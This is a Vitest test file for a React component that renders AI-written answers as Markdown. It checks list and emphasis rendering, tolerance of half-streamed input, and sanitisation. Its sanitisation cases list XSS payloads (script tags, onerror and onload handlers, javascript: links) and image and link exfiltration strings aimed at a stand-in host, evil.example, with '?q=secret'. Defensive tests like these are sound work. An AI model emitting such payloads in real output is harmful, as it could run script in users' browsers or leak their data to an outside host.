import { renderToStaticMarkup } from 'react-dom/server';
import { expect, test } from 'vitest';
import { AnswerMarkdown } from './answer-markdown.tsx';

const markupOf = (text: string) => renderToStaticMarkup(<AnswerMarkdown text={text} />);
const tagsOf = (text: string) =>
  [...markupOf(text).matchAll(/<([a-z]+)/g)].map(([, name]) => name).slice(1);

test('shows paragraphs, emphasis, lists and quotes', () => {
  expect(tagsOf('**意思** *n.* 岸\n\n- 一\n- 二\n\n1. 三\n\n> 引')).toEqual([
    'p',
    'strong',
    'em',
    'ul',
    'li',
    'li',
    'ol',
    'li',
    'blockquote',
    'p',
  ]);
});

test.each([
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '![p](https://evil.example/p.png?q=secret)',
  '[press](javascript:alert(1))',
  '[press](https://evil.example/?q=secret)',
  'https://evil.example/?q=secret',
  '<a href="https://evil.example">press</a>',
  '**<svg onload=alert(1)>**',
  '[p]: https://evil.example\n\n[p] and ![p]',
  '```html\n<iframe src="https://evil.example"></iframe>\n```',
  '| a |\n|---|\n| <img src=x> |',
])('%s brings nothing but words', (text) => {
  const allowed = new Set(['p', 'strong', 'em', 'code', 'pre', 'br', 'ul', 'li']);
  expect(tagsOf(text).filter((name) => !allowed.has(name!))).toEqual([]);
  expect(markupOf(text)).not.toMatch(/<[^>]*(?:src|href|on\w+)=/);
});

test('an answer of which half has come is shown as far as it is', () => {
  for (const text of ['**这里的', '- 一\n-', '```', '| a |\n|-', '[词](', '']) {
    expect(() => markupOf(text)).not.toThrow();
  }
  expect(markupOf('**这里的')).toContain('这里的');
});
